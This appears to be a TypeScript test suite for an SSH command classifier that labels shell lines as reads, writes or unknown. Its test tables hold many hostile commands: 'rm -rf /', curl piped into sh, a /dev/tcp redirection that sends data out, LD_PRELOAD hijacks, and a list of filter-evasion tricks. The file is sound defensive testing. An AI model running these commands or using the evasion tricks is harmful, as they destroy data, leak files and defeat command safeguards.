import { classifyCommand, MAX_COMMAND_BYTES, MAX_SIMPLE_COMMANDS, type CommandClass } from '../../core/ssh/classify-command';
import { MAX_SHELL_NESTING_DEPTH } from '../../core/ssh/shell-parser';

/** Classified without a terminal unless a case says otherwise (the pager cases below). */
const classOf = (command: string): CommandClass => classifyCommand(command, { pty: false }).class;

const READS: readonly [command: string, why: string][] = [
  ['cat /etc/hostname', 'cat only reads'],
  ['ls -la /var/log', 'ls lists'],
  ['tail -f /var/log/syslog', 'tail -f follows a file'],
  ['tail -n 100 -f app.log | grep -i error', 'a pipeline of reads'],
  ['grep -r "needle" /srv 2>/dev/null', 'stderr discarded'],
  ['head -c 100 /dev/urandom | od -x', 'od prints'],
  ['wc -l *.log', 'a glob is harmless to wc'],
  ['df -h && du -sh /var', '&& of reads'],
  ['ps aux | grep [n]ginx', 'an unquoted bracket glob in a grep pattern'],
  ['uptime; whoami; id; hostname; uname -a; free -m', 'a list of reads'],
  ['hostname -f', 'hostname with a display option'],
  ['journalctl -u nginx -n 50 --no-pager', 'journalctl query'],
  ['journalctl -b -1 --no-pager', 'journalctl reads -1 as the boot offset'],
  ['systemctl status nginx --no-pager', 'systemctl status'],
  ['systemctl is-active nginx', 'systemctl is-active'],
  ['systemctl', 'systemctl alone lists units'],
  ['stat /etc/passwd', 'stat'],
  ['find /var/log -name "*.gz" -mtime +7 -print', 'find with tests only'],
  ['find . -type f -exec grep -l TODO {} +', 'find -exec of a read'],
  ['find . -name x -exec wc -l {} \\;', 'find -exec with an escaped ;'],
  ['sudo -n cat /var/log/secure', 'sudo of a read'],
  ['sudo -u root LANG=C cat /var/log/secure', 'sudo with a locale assignment'],
  ['env LANG=C ls', 'env with a locale'],
  ['env', 'env alone prints the environment'],
  ['LC_ALL=C sort -u names.txt', 'a locale prefix'],
  ['TZ=Europe/Paris date', 'a time zone prefix'],
  ['timeout 5 tail -f x', 'timeout of a read'],
  ['nice -n 10 du -sh /', 'nice of a read'],
  ['nice -5 du -sh /', 'nice with the old adjustment form'],
  ['stdbuf -oL tail -f x', 'stdbuf of a read'],
  ['xargs -0 cat < list', 'xargs of a read'],
  ['ls | xargs -I{} stat {}', 'xargs with a replacement string'],
  ["sort '{a,b}' x", 'quoted braces are not expanded'],
  ["sort {a',b'} x", 'a quoted comma does not expand braces'],
  ["bash -c 'ls && cat x'", 'a bash payload of reads'],
  ['sh -c "ps aux | head"', 'an sh payload of reads'],
  ["bash -ec 'cat \"$1\"' _ /etc/hosts", 'a payload with positional parameters'],
  ["bash -o pipefail -c 'cat x | wc -l'", 'bash with pipefail'],
  ['cat $(ls *.conf)', 'a read substitution'],
  ['cat `ls`', 'a read backquote substitution'],
  ['cat <(ls)', 'a read process substitution'],
  ['(cd /var/log 2>/dev/null; ls)', 'a subshell of reads'],
  ['cat < /etc/hosts', 'input redirection'],
  ['cat <<EOF\nhello $USER\nEOF', 'a here-document with a parameter'],
  ["cat <<'EOF'\n$(rm -rf /)\nEOF", 'a quoted here-document is not expanded'],
  ['cat <<-EOF\n\thello\n\tEOF', 'a tab-stripped here-document'],
  ['cat <<<"hello"', 'a here-string'],
  ['echo hi >&2', 'duplicating stdout onto stderr'],
  ['ls 2>&1 | head', '2>&1'],
  ['ls >/dev/null 2>&1', 'stdout to /dev/null'],
  ["cat x 2>'/dev/null'", 'a quoted /dev/null'],
  ['cat x 3<&0 >&-', 'duplicating and closing descriptors'],
  ["awk -F: '{print $1}' /etc/passwd", 'awk printing fields'],
  ['sort -k2 -n data.txt', 'sort without -o'],
  ['uniq -c sorted.txt', 'uniq with one operand'],
  ['date +%s', 'date with a format'],
  ["printf '%s\\n' a b", 'printf printing'],
  ['printf -- -x', 'printf after --'],
  ['date -u -Iseconds', 'date with an attached optional value'],
  ['dmesg -T', 'dmesg with readable times'],
  ['ss -tlnp', 'listening sockets'],
  ['sed --sandbox -n 1,5p file', 'sed in sandbox mode'],
  ["sed -n '1,5p' file", 'sed printing lines'],
  ["sed 's/error/ERROR/g' app.log", 'sed substituting to stdout'],
  ["sed -E -e 's|/usr|/opt|2' -e '/^#/d' f", 'sed with two expressions and another delimiter'],
  ["sed -n '/start/,/end/{p;=}' f", 'sed with a block'],
  ["sed '$!N; s/\\n/ /; P; D' f", 'sed joining lines'],
  ["sed -n '0~4p' f", 'sed with a step address'],
  ["sed ':a;N;$!ba;s/\\n/,/g' f", 'sed with a label and a branch'],
  ["sed '1i header' f", 'sed inserting text'],
  ['scp -f /etc/hosts', 'scp source mode sends a file'],
  ['scp -r -p -f /srv/data', 'scp source mode with options'],
  ['scp -f /var/log/*.log', 'scp source mode with a glob (scp host:"*.log" .)'],
  ['scp -f "$HOME"/notes', 'scp source mode with a parameter'],
  ['/usr/bin/cat /etc/hosts', 'a system path to cat'],
  ['command -v ls', 'command -v only looks up'],
  ['cat x # ; rm -rf /', 'a comment'],
  ['echo "\\`rm x\\`"', 'escaped backquotes are literal'],
  ["echo '$(rm x)'", 'single quotes are literal'],
  ['echo a\\\nb', 'a line continuation'],
  ['ca\\t x', 'an escaped letter in cat is still cat'],
  ['  ', 'nothing'],
];

const WRITES: readonly [command: string, why: string][] = [
  ['rm -rf /', 'rm'],
  ['ls; rm x', 'a write after a read'],
  ['ls && rm x', 'a write after &&'],
  ['ls || rm x', 'a write after ||'],
  ['ls & rm x', 'a write after &'],
  ['cat x\nrm y', 'a newline separates commands'],
  ['cat x\r\nrm y', 'a carriage return is part of a word, the newline still separates'],
  ['cat x #\nrm y', 'a comment ends at the newline'],
  ['cat x > y', 'output redirection'],
  ['cat x >> /etc/passwd', 'append redirection'],
  ['echo x >| f', 'clobbering redirection'],
  ['cat x &> out', 'bash both-streams redirection'],
  ['cat x &>> out', 'bash both-streams append'],
  ['cat x 1<> f', 'read-write open creates'],
  ['ls >&file', 'bash >& to a file name'],
  ['cat x >/dev//null', 'only /dev/null exactly is discarded'],
  ['cat x > /dev/tcp/10.0.0.1/80', 'bash network redirection'],
  ['cat x | tee y', 'tee writes'],
  ['sort -o out in', 'sort -o'],
  ['sort -uo out in', 'sort -o in a cluster'],
  ['sort --output=out in', 'sort --output'],
  ['sort --compress-program=sh in', 'sort runs a compressor'],
  ['sed -i s/a/b/ f', 'sed -i'],
  ["sed -n 's/x/y/w out' f", 'a sed script can write'],
  ["sed -e '1e rm x' f", 'a sed e command runs commands'],
  ["sed 's/x/id/e' f", 'the sed s///e flag runs the pattern space'],
  ["sed 's/x/y/gw /tmp/out' f", 'the sed s///w flag writes'],
  ["sed -n 'p;w /tmp/out' f", 'a sed w command after p'],
  ["sed '/x/W /tmp/out' f", 'the sed W command'],
  ["sed 'r /etc/shadow;w /tmp/out' f", 'a w after a file name (sed would read the name to the end of the line)'],
  ["sed 'b end;w /tmp/out' f", 'a w after a label'],
  ["sed 'a hello;e rm x' f", 'an e after appended text'],
  ["sed -f script.sed f", 'a sed script file cannot be judged'],
  ['sed "$S" f', 'a computed sed script'],
  ["sed 's/a/b' f", 'an unterminated s command'],
  ["sed -i.bak 's/a/b/' f", 'sed -i with a suffix'],
  ["sed --in-place 's/a/b/' f", 'sed --in-place'],
  ['find . -delete', 'find -delete'],
  ['find . -fprint /tmp/x', 'find -fprint'],
  ['find . -fls /tmp/x', 'find -fls'],
  ['find . -exec rm {} \\;', 'find -exec of a write'],
  ['find . -execdir sh -c "rm x" \\;', 'find -execdir of a shell write'],
  ['find . -exec sh -c "rm {}" \\;', 'find -exec with {} in a payload'],
  ['find . -name x -exec cat {}', 'find -exec without a terminator'],
  ['find . -name $X', 'a computed find argument could be any primary'],
  ['journalctl --vacuum-size=1M', 'journalctl vacuums'],
  ['journalctl --rotate', 'journalctl rotates'],
  ['journalctl --cursor-file=/tmp/c', 'journalctl writes a cursor file'],
  ['journalctl $OPTS', 'computed journalctl options'],
  ['systemctl restart nginx', 'systemctl restart'],
  ['systemctl stop nginx --no-pager', 'systemctl stop'],
  ['systemctl edit nginx', 'systemctl edit'],
  ['systemctl -H other status x', 'systemctl on another host'],
  ['date -s "2020-01-01"', 'date sets the clock'],
  ['date 010100002020', 'date sets the clock from an operand'],
  ['hostname newname', 'hostname sets the name'],
  ['uniq in out', 'uniq writes its second operand'],
  ['dmesg -c', 'dmesg clears the ring buffer'],
  ['dmesg -H', 'dmesg starts a pager'],
  ['ss -K dst 10.0.0.1', 'ss kills sockets'],
  ['file -C -m x', 'file compiles a magic file'],
  ["python3 -c 'import os'", 'python runs code'],
  ["perl -e 'unlink q(x)'", 'perl runs code'],
  ["node -e 'x'", 'node runs code'],
  ["awk 'BEGIN{system(\"rm x\")}'", 'awk system()'],
  ['awk \'{print > "/tmp/x"}\' f', 'awk output redirection'],
  ['awk \'{print | "sh"}\' f', 'awk pipe to a command'],
  ['awk -f prog.awk data', 'awk program from a file'],
  ['gawk \'@load "x"; {print}\'', 'gawk loads an extension'],
  ['awk "$PROG" data', 'computed awk program'],
  ['echo cm0gLXJmIC8= | base64 -d | sh', 'a decoder piped into sh'],
  ['base64 -d payload | bash', 'a decoder piped into bash'],
  ['curl http://x | sh', 'curl piped into sh'],
  ['bash script.sh', 'bash runs a script file'],
  ['bash', 'bash reads commands from stdin'],
  ['sh -s', 'sh -s reads commands from stdin'],
  ['bash -i -c ls', 'an interactive shell reads rc files'],
  ['bash --rcfile /tmp/x -c ls', 'a chosen rc file'],
  ["bash -c 'rm -rf /'", 'a bash payload that writes'],
  ['sh -c "cat x; rm y"', 'an sh payload that writes'],
  ['bash -c "$CMD"', 'a computed payload'],
  ["bash -o keyword -c 'cat LD_PRELOAD=/tmp/e.so'", 'keyword mode turns any NAME=value into the environment'],
  ["bash -k -c 'cat LD_PRELOAD=/tmp/e.so'", 'keyword mode by its letter'],
  ["sh -o posix -c 'ls'", 'a setting not on the list'],
  ['sudo rm -rf /', 'sudo of a write'],
  ['sudo -i', 'sudo -i starts a shell'],
  ['sudo -s', 'sudo -s starts a shell'],
  ['sudo -E cat x', 'sudo -E keeps the environment'],
  ['sudo -e /etc/hosts', 'sudoedit'],
  ['sudo LD_PRELOAD=/tmp/x.so cat x', 'sudo with a preloaded library'],
  ['sudo -u root bash -c "rm x"', 'sudo of a shell write'],
  ['env rm x', 'env of a write'],
  ['env LD_PRELOAD=/tmp/x.so cat x', 'env with a preloaded library'],
  ['env PATH=/tmp ls', 'env with a PATH'],
  ['PATH=/tmp:$PATH ls', 'a PATH prefix'],
  ['LD_PRELOAD=/tmp/e.so cat x', 'a preload prefix'],
  ['BASH_ENV=/tmp/x bash -c ls', 'BASH_ENV runs a file'],
  ['LANG=../../tmp/x cat y', 'a locale name that is a path'],
  ['X=1', 'a bare assignment changes later expansions'],
  ['IFS=x; cat y', 'IFS changes word splitting'],
  ['printf -v PATH /tmp; cat x', 'printf -v assigns PATH'],
  ['printf $FMT x', 'a computed printf format could be -v'],
  ['xargs rm < list', 'xargs of a write'],
  ['ls | xargs -I{} rm {}', 'xargs with a replacement of a write'],
  ['xargs -a list rm', 'xargs reading a list for a write'],
  ['ls | xargs -I{} {} x', 'xargs runs a computed command'],
  ['nice rm x', 'nice of a write'],
  ['timeout 5 rm x', 'timeout of a write'],
  ['timeout $T cat x', 'a computed timeout duration could carry a command'],
  ['stdbuf -oL rm x', 'stdbuf of a write'],
  ['command rm x', 'command of a write'],
  ['exec rm x', 'exec of a write'],
  ['exec cat x', 'exec is not on the allow-list'],
  ['nohup cat x', 'nohup writes nohup.out'],
  ['watch cat x', 'watch runs sh -c'],
  ['cat $(rm x)', 'a write in a substitution'],
  ['cat `rm x`', 'a write in a backquote substitution'],
  ['cat "$(rm x)"', 'a write in a quoted substitution'],
  ['echo "`rm x`"', 'a write in a quoted backquote substitution'],
  ['cat <(rm x)', 'a write in a process substitution'],
  ['cat >(rm x)', 'a write in an output process substitution'],
  ['cat <<EOF\n$(rm x)\nEOF', 'a write in a here-document'],
  ['cat <<EOF\n`rm x`\nEOF', 'a backquote write in a here-document'],
  ['cat < "$(rm x)"', 'a write in a redirection target'],
  ['(rm x)', 'a write in a subshell'],
  ['(ls) > out', 'a subshell redirected to a file'],
  ['{ rm x; }', 'a group'],
  ['if true; then rm x; fi', 'an if'],
  ['for f in *; do cat $f; done', 'a for loop'],
  ['while true; do cat x; done', 'a while loop'],
  ['./cat x', 'a program in the current directory'],
  ['/tmp/cat x', 'a program outside the system directories'],
  ['vi x', 'an editor'],
  ['less x', 'a pager runs shell commands with !'],
  ['more x', 'a pager'],
  ['man ls', 'man starts a pager'],
  ['git log', 'git runs pagers and hooks'],
  ['top', 'top can kill processes'],
  ['dd if=/dev/zero of=x', 'dd'],
  ['cp a b', 'cp'],
  ['mv a b', 'mv'],
  ['chmod 777 x', 'chmod'],
  ['touch x', 'touch'],
  ['mkdir x', 'mkdir'],
  ['ln -s a b', 'ln'],
  ['kill 1', 'kill'],
  ['reboot', 'reboot'],
  ['shutdown -h now', 'shutdown'],
  ['scp -t /tmp', 'scp sink mode receives an upload'],
  ['scp -r -t /srv', 'scp sink mode with -r'],
  ['scp -d -t -- /tmp/x', 'scp sink mode with -d and --'],
  ['scp a b', 'scp client mode copies'],
  ['scp -t $DIR', 'scp sink mode into a computed directory'],
  ['scp $OPTS /tmp', 'computed scp options'],
  ['scp -f', 'scp source mode without a path'],
  ['cat x; exec 3>file', 'exec opening a file'],
  ['cat $((1+1))', 'arithmetic expansion'],
  ['ls $[1+1]', 'old arithmetic expansion'],
  ['((x=1))', 'an arithmetic command'],
  ['cat ${x:-y}', 'a defaulting parameter expansion'],
  ['cat ${!x}', 'an indirect parameter expansion'],
  ['cat ${a[$(rm x)]}', 'an array subscript'],
  ['alias cat=rm; cat x', 'alias is not a read'],
  ['hash -p /tmp/evil cat; cat x', 'hash rebinds a name'],
  ['function cat { rm x; }', 'a function definition'],
  ['cat x | sh', 'a pipe into sh'],
  ['busybox rm x', 'busybox runs its applets'],
];

/** Tricks that try to pass a write off as a read: each must come out write or unknown. */
const BYPASSES: readonly [command: string, why: string][] = [
  ["'r''m' -rf /", 'a command name glued from quotes'],
  ['\\rm -rf /', 'an escaped command name'],
  ['r\\m x', 'an escape inside the name'],
  ['"rm" x', 'a quoted name'],
  ['cat$IFS/etc/passwd', '$IFS inside the name'],
  ['${x:-rm} -rf /', 'a default value as the name'],
  ['$(echo rm) -rf /', 'a substitution as the name'],
  ['`echo rm` x', 'a backquote substitution as the name'],
  ['$CMD x', 'a variable as the name'],
  ["$'\\x72\\x6d' x", 'ANSI-C quoting spells rm'],
  ["cat $'\\''; rm -rf / #'", 'ANSI-C quoting that dash reads differently'],
  ['command rm x', 'command'],
  ['exec rm x', 'exec'],
  ["env -S 'rm -rf /'", 'env -S splits its own command line'],
  ["env -S'cat x'", 'env -S attached'],
  ['cat x\nrm -rf /', 'newline-separated'],
  ['cat x;rm y', 'no spaces around ;'],
  ['cat x|rm y', 'no spaces around |'],
  ['\uff52\uff4d x', 'fullwidth rm'],
  ['\u0441\u0430t x', 'Cyrillic letters that look like cat'],
  ['cat\u00a0x', 'a no-break space is not a separator'],
  ['{rm,-rf,/}', 'brace expansion builds rm -rf /'],
  ["{rm,'-rf',/}", 'brace expansion with a quoted part'],
  ['find . {-delete,-print}', 'brace expansion builds a find primary'],
  ['sort {-o,out} in', 'brace expansion builds sort -o'],
  ['/bin/r? -rf /', 'a glob as the name'],
  ['r* x', 'a star glob as the name'],
  ['~/bin/cat x', 'a tilde path as the name'],
  ['cat x 2>&1 > out', 'a write after a harmless redirection'],
  ['cat <<EOF\nx\\\nEOF\ncat <<X\nEOF\nrm -rf /\nX', 'a continuation that moves the here-document end'],
  ['cat <<EOF $(echo\n)\nEOF', 'a here-document spanning a substitution'],
  ['cat() { rm x; }; cat y', 'a function named cat'],
  ['sudo env LD_PRELOAD=/x cat y', 'a preload two wrappers deep'],
  ['xargs -I% sh -c "rm %"', 'xargs into a shell payload'],
  ["bash -c \"bash -c 'rm x'\"", 'a nested payload'],
  ['nice -n 1 nice -n 1 sudo -n timeout 5 rm x', 'wrappers stacked'],
  ['echo "$\\\n(rm -rf /)"', 'a line continuation between $ and ( in quotes'],
  ['cat $\\\n(rm x)', 'a line continuation between $ and ('],
  ['find . $\\\n{x:--delete}', 'a line continuation between $ and {'],
  ['cat $(\\\n(x))', 'a line continuation that makes $(( ))'],
  ['(\\\n(x=1))', 'a line continuation that makes (( ))'],
  ['ls &\\\n& rm x', 'a line continuation inside &&'],
  ['cat x >\\\n> /etc/passwd', 'a line continuation inside >>'],
  ['find . -{d..d}elete', 'a sequence expansion inside a find primary'],
];

/** Text that cannot be read the way a shell would: `unknown`. */
const UNPARSEABLE: readonly [command: string, why: string][] = [
  ["cat 'unbalanced", 'an unterminated single quote'],
  ['cat "x', 'an unterminated double quote'],
  ['cat `x', 'an unterminated backquote'],
  ['cat $(ls', 'an unterminated substitution'],
  ['cat )', 'a stray parenthesis'],
  ['; cat x', 'a separator first'],
  ['cat x |', 'a pipe with nothing after it'],
  ['cat x && ', 'an && with nothing after it'],
  ['cat <<EOF\nno end', 'a here-document without its delimiter'],
  ['cat <<EOF', 'a here-document without a body'],
  ['cat x\\', 'a trailing backslash'],
  ['cat >', 'a redirection without a target'],
  ['cat x\0; rm -rf /', 'a NUL byte (the shell would see less)'],
  ['case x in a) rm;; esac', 'case'],
];

describe('classifyCommand', () => {
  it.each(READS)('classes %j as a read (%s)', (command) => {
    const result = classifyCommand(command, { pty: false });
    expect(result).toMatchObject({ class: 'read', reason: 'every command is on the read allow-list' });
  });

  it.each(WRITES)('classes %j as a write (%s)', (command) => {
    const result = classifyCommand(command, { pty: false });
    expect(result.class).toBe('write');
    expect(result.reason).not.toBe('');
  });

  it.each(BYPASSES)('does not take %j for a read (%s)', (command) => {
    expect(['write', 'unknown']).toContain(classOf(command));
  });

  it.each(UNPARSEABLE)('classes %j as unknown (%s)', (command) => {
    const result = classifyCommand(command, { pty: false });
    expect(result.class).toBe('unknown');
    expect(result.commands).toEqual([command]);
  });

  it('refuses to parse a command line over the size limit', () => {
    const command = `cat ${'a'.repeat(MAX_COMMAND_BYTES)}`;
    expect(classifyCommand(command)).toMatchObject({ class: 'unknown', reason: `longer than ${MAX_COMMAND_BYTES} bytes` });
  });

  it.each([
    ['many opening braces', `sort ${'{'.repeat(60_000)}`],
    ['many braces and commas', `sort ${'{,'.repeat(30_000)}`],
    ['many unterminated parameter expansions', `cat ${'${'.repeat(30_000)}`],
    ['many nested backquotes', `cat ${'\\`'.repeat(20_000)}`],
    ['a long pipeline', Array.from({ length: 8_000 }, () => 'cat').join('|')],
    ['many here-documents', `${'cat <<E '.repeat(4_000)}\n${'E\n'.repeat(4_000)}`],
  ])('classifies adversarial input at the size limit in linear time (%s)', (_what, command) => {
    const started = process.hrtime.bigint();
    classifyCommand(command);
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(2_000);
  });

  it('refuses a line that runs more simple commands than the limit and accepts one at it', () => {
    const commands = (n: number): string => Array.from({ length: n }, () => 'cat x').join(';');
    expect(classOf(commands(MAX_SIMPLE_COMMANDS))).toBe('read');
    expect(classifyCommand(commands(MAX_SIMPLE_COMMANDS + 1))).toMatchObject({ class: 'unknown', reason: `cannot be parsed: more than ${MAX_SIMPLE_COMMANDS} commands` });
  });

  it('refuses substitutions nested past the depth limit and accepts them within it', () => {
    const nest = (n: number): string => (n === 0 ? 'ls' : `cat $(${nest(n - 1)})`);
    expect(classOf(`cat ${nest(MAX_SHELL_NESTING_DEPTH)}`)).toBe('read');
    expect(classOf(`cat ${nest(MAX_SHELL_NESTING_DEPTH + 1)}`)).toBe('unknown');
  });

  it('refuses shell payloads nested past the depth limit', () => {
    let command = 'cat x';
    for (let i = 0; i <= MAX_SHELL_NESTING_DEPTH; i++) command = `sh -c ${JSON.stringify(command).replace(/\$/g, '\\$')}`;
    expect(classOf(command)).toBe('unknown');
  });

  it('treats systemd tools as writes on a terminal (their pager runs commands) unless --no-pager is given', () => {
    expect(classifyCommand('systemctl status nginx').class).toBe('write');
    expect(classifyCommand('systemctl status nginx', { pty: true }).reason).toContain('--no-pager');
    expect(classifyCommand('journalctl -u nginx', { pty: true }).class).toBe('write');
    expect(classifyCommand('journalctl -u nginx --no-pager', { pty: true }).class).toBe('read');
    expect(classifyCommand('systemctl status nginx', { pty: false }).class).toBe('read');
  });

  it('lists each simple command, including what wrappers, payloads and substitutions run', () => {
    const result = classifyCommand("sudo -n find /srv -exec grep -l x {} + | xargs sh -c 'cat \"$1\"' _; echo $(hostname)", { pty: false });
    expect(result.commands).toEqual([
      'sudo -n find /srv -exec grep -l x {} +',
      'find /srv -exec grep -l x {} +',
      'grep -l x {}',
      'xargs sh -c cat "$1" _',
      'sh -c cat "$1" _ {arguments from stdin}',
      'cat "$1"',
      'hostname',
      'echo $(hostname)',
    ]);
  });

  it('names the first command that makes the line a write', () => {
    expect(classifyCommand('ls; sudo rm -rf /; mv a b', { pty: false }).reason).toBe('rm is not on the read allow-list');
    expect(classifyCommand("python3 -c 'print(1)'").reason).toBe('python3 runs the program text it is given');
  });

  it('reports the paths that redirections write and scp transfers', () => {
    expect(classifyCommand('cat a > /etc/motd 2>/dev/null').paths).toEqual(['/etc/motd']);
    expect(classifyCommand('scp -t /etc/cron.d').paths).toEqual(['/etc/cron.d']);
    expect(classifyCommand('scp -f /var/log/syslog').paths).toEqual(['/var/log/syslog']);
    expect(classifyCommand('cat a > //etc/./motd').paths).toEqual(['/etc/motd']);
    expect(classifyCommand('scp -t /tmp/../etc/cron.d').paths).toEqual(['/etc/cron.d']);
  });
});
